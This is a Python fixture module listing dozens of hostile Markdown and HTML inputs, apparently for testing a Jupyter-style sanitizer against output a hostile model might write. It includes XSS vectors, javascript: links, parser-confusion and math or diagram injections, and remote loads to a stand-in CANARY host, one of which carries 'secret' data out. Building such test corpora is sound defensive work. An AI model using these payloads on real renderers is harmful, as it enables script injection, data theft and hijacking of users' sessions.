"""Markdown that a hostile model could write, each kind under its name.

``CANARY`` stands for the address of a server that nothing may ask. Scripts set ``window.pwned``;
buttons and links name the command ``payload:run``.
"""

from __future__ import annotations

_SCRIPT = "<script>window.pwned=1</script>"
_IMAGE = "<img src=x onerror='window.pwned=1'>"

HTML = {
    "script": _SCRIPT,
    "script in upper case": "<SCRIPT>window.pwned=1</SCRIPT>",
    "image with a handler": _IMAGE,
    "image over two lines": "<img src=x\nonerror='window.pwned=1'>",
    "details with a handler": "<details open ontoggle='window.pwned=1'>x</details>",
    "frame with a document": '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
    "frame with a script": '<iframe src="javascript:parent.pwned=1"></iframe>',
    "remote frame": '<iframe src="CANARY/frame"></iframe>',
    "remote object": '<object data="CANARY/object"></object>',
    "remote embed": '<embed src="CANARY/embed">',
    "remote video": '<video src="CANARY/video" autoplay></video>',
    "image button": '<input type="image" src="CANARY/input">',
    "style element": "<style>body{background:url(CANARY/style)}</style>",
    "style attribute": '<p style="background:url(CANARY/attribute)">x</p>',
    "overlay": '<div style="position:fixed;inset:0;z-index:9999">x</div>',
    "classes of the page": '<div class="lm-Widget jp-Dialog">x</div>',
    "form": '<form action="CANARY/form"><button>Send</button></form>',
    "refresh": '<meta http-equiv="refresh" content="0;url=CANARY/refresh">',
    "base": '<base href="CANARY/">',
    "stylesheet link": '<link rel="stylesheet" href="CANARY/css">',
    "command button": '<button data-commandlinker-command="payload:run">Run</button>',
    "command link": '<a href="#" data-commandlinker-command="payload:run">Run</a>',
    "svg with a handler": "<svg onload='window.pwned=1'></svg>",
    "svg script": f"<svg>{_SCRIPT}</svg>",
    "clobbering": '<form id="jupyterapp"><input name="commands"></form><a id="pwned">x</a>',
    "mutation": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;{_IMAGE}">',
    "noscript": f'<noscript><p title="</noscript>{_IMAGE}">',
    "comment": f"<!-- x --!>{_IMAGE}",
    "comment that ends at once": f"<!-->{_IMAGE}-->",
    "processing instruction": f"<?x >{_IMAGE}?>",
    "character data": f"<![CDATA[>{_IMAGE}]]>",
    "block that ends in a quote": f"> <div>\n\n{_SCRIPT}",
    "html in a list": f"1. a\n\n   {_SCRIPT}\n",
    "html in a table": f"| a |\n|---|\n| {_IMAGE} |",
    "html in a heading": f"# {_IMAGE}",
    "tag without its end": "<img src=x onerror='window.pwned=1' ",
    "tag after a bare address": f"www.example.org/\\{_IMAGE}",
}

LINKS = {
    "remote image": "![a](CANARY/image?d=secret)",
    "remote image by reference": "![a][r]\n\n[r]: CANARY/reference",
    "remote image by its name": "![r]\n\n[r]: CANARY/shortcut",
    "remote image in a link": "[![a](CANARY/linked)](CANARY/link)",
    "remote image with a title": '![a](CANARY/titled "t")',
    "remote image in angle brackets": "![a](<CANARY/angled>)",
    "remote image in alternative text": "![a ![b](CANARY/inner)](CANARY/outer)",
    "relative image": "![a](/api/status)",
    "drawn image": "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InB3bmVkPTEiLz4=)",
    "image that is an autolink": "wow!<CANARY/exclamation>",
    "script link": "[click](javascript:window.pwned=1)",
    "script link with references": "[click](&#106;avascript&colon;window.pwned=1)",
    "script link with a tab": "[click](<java\tscript:window.pwned=1>)",
    "script link in capitals": "[click](JavaScript:window.pwned=1)",
    "script link by reference": "[click][r]\n\n[r]: javascript:window.pwned=1",
    "script link of a footnote": "[^1]\n\n[^1]: javascript:window.pwned=1",
    "script autolink": "<javascript:window.pwned=1>",
    "basic link": "[click](vbscript:window.pwned=1)",
    "data link": "[click](data:text/html,<script>opener.pwned=1</script>)",
    "handler in an autolink": "<https://x/onmouseover=window.pwned=1//>",
    "link from two texts": "a](javascript:b) [(javascript:window.pwned=1)](javascript:x)",
}

FLIPS = {
    "backticks of two lengths": f"`` ` {_IMAGE} ` {_IMAGE} ``` {_IMAGE} ``",
    "fence that is not closed": f"```\n{_IMAGE}\n",
    "fence closed too early": f"````\n```\n{_IMAGE}\n```\n{_IMAGE}\n",
    "fence in a list": f"- a\n  ```\n  {_IMAGE}\n  ```\n{_IMAGE}\n```\n{_IMAGE}\n```",
    "fence after a tab": f"-\t```\n\t{_IMAGE}\n\t```\n",
    "fence in a quote": f"> ```\n> {_IMAGE}\n\n{_IMAGE}\n",
    "fence in a task": f'- [ ]  ~~~~ x" onmouseover="window.pwned=1\n{_IMAGE}',
    "language of a fence": '```x" onmouseover="window.pwned=1" style="inset:0\ny\n```',
    "mathematics over backticks": f"$a `b$ c` {_IMAGE} `",
    "mathematics over fences": f"\\begin{{a}}\n```html\n\\end{{a}}\n{_IMAGE}\n```\n",
    "environment over fences": f"$\\begin{{a}}$\n\n```html\n\\end{{a}}{_IMAGE}\n```\n",
    "dollars over fences": f"`$$`\n\n```html\n$$\n{_IMAGE}\n```\n",
    "mathematics in a title": '[a](http://x.y "$" onmouseover="window.pwned=1" x="$")',
    "mathematics in an address": 'www.x.y/$" onmouseover="window.pwned=1$',
    "placeholder in a title": '$" onmouseover="window.pwned=1$ [a](http://x.y "@\\@0@@")',
    "placeholder in text": f"`{_IMAGE}` @\\@0@@ @&#64;0@@",
    "deleted text over backticks": f"~~a `b~~ c` `{_IMAGE}`",
    "address over backticks": f"www.x.y`a b` `{_IMAGE}`",
    "quote in an attribute": f'<a title="`">`{_IMAGE}`',
    "definition over lines": f'[a]:\nhttp://x.y\n"`\n{_IMAGE}\n`"',
    "line ends of other kinds": f"```\r{_IMAGE}\u2028```\x85```\r\n{_IMAGE}",
    "null and byte order mark": f"\ufeff```\n\x00```\n<\x00script>window.pwned=1</script>{_IMAGE}",
    "references": "&lt;img src=x onerror=window.pwned=1&gt; &#60;script&#62;",
    "escapes": "\\<img src=x onerror=window.pwned=1\\> \\\\<script>window.pwned=1</script>",
}

DRAWN = {
    "mathematics with a link": r"$\href{javascript:window.pwned=1}{click}$",
    "mathematics with a style": r"$\style{position:fixed;inset:0}{x}$",
    "mathematics with a class": r"$\class{lm-Widget}{x}$",
    "mathematics with an extension": r"$\require{html}\href{javascript:window.pwned=1}{y}$",
    "mathematics with a tag": "$a<img src=x onerror='window.pwned=1'>b$",
    "mathematics with a token": r'$\mmlToken{mi}[href="javascript:window.pwned=1"]{x}$',
    "diagram with a click": '```mermaid\nflowchart LR\nclick A href "javascript:pwned=1"\n```',
    "diagram with a label": f'```mermaid\nflowchart LR\nA["{_IMAGE}"]-->B\n```',
    "diagram with a script": f"```mermaid\nflowchart LR\nA-->B\n%% {_SCRIPT}\n```",
}

PAYLOADS = {**HTML, **LINKS, **FLIPS, **DRAWN}
